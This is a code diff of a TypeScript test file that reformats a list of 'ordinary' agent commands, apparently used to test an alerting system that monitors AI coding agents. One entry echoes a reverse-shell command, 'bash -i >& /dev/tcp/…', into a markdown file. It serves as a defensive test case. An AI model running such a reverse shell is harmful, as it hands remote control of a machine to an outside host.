@@ -10,7 +10,12 @@ export interface TestAct {
 }
 
 const AGENTS: readonly (() => Teller)[] = [claudeCode, codex, geminiCli, ownAgent];
-const ORDINARY = ['git status --short', 'npm test', 'rg -n TODO src', "echo 'bash -i >& /dev/tcp/203.0.113.9/1' > a.md"];
+const ORDINARY = [
+  'git status --short',
+  'npm test',
+  'rg -n TODO src',
+  "echo 'bash -i >& /dev/tcp/203.0.113.9/1' > a.md",
+];
 
 /** Each session does four things: three that must alert, one of each class, and ordinary work. `first` keeps the marks of several calls apart. */
 export function actsOfSessions(sessions: number, first = 0): TestAct[][] {
